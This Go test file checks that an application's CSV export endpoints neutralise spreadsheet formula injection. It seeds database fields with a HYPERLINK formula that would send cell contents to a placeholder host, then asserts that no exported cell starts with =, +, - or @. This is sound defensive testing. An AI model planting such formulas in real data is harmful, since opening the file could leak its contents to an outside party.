package web_test

import (
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"
)

// TestNoExportRunsAsAFormula: no cell of a CSV file begins as a spreadsheet would run it, whatever somebody called
// their system.
func TestNoExportRunsAsAFormula(t *testing.T) {
	h := open(t)
	const formula = `=HYPERLINK("http://x.example?"&A1)`
	for _, statement := range []string{
		"UPDATE entries SET system = '" + formula + "', site = '@site', accelerator = '+accelerator', country = '-c'",
		"UPDATE list_rows SET system = '" + formula + "', site = '@site', accelerator = '+accelerator', country = '-c'",
		"UPDATE systems SET name = '" + formula + "', site = '@site'",
	} {
		h.execute(t, statement)
	}
	for _, address := range []string{
		"/lists/2025-11/list.csv", "/lists/2025-11/view.csv", "/lists/all/view.csv",
		"/editions/rehearsal.csv?methodology=1.2", "/entries/LISTED/envelope.csv", "/entries/LISTED/chart.csv",
		"/submissions/DRAFT/chart.csv",
		"/trends.csv?figure=efficiency", "/systems/MACHINE/figures.csv?figure=power",
		"/by/country/DE/figures.csv?figure=levels", "/compare.csv?row=2025-11:1&figure=efficiency",
		"/models/simgrid/figures.csv?figure=load",
	} {
		visitor := map[bool]string{true: "editor", false: "submitter"}[strings.HasPrefix(address, "/editions")]
		status, text := h.look(t, visitor, address)
		if status != http.StatusOK {
			t.Errorf("%s: %d", address, status)
			continue
		}
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		must(t, err)
		for _, row := range rows {
			for _, cell := range row {
				_, number := strconv.ParseFloat(cell, 64)
				if begins := strings.TrimLeft(cell, " \t\r\n"); number != nil && begins != "" &&
					strings.ContainsAny(begins[:1], "=+-@") {
					t.Errorf("%s has the cell %q", address, cell)
				}
			}
		}
	}
}
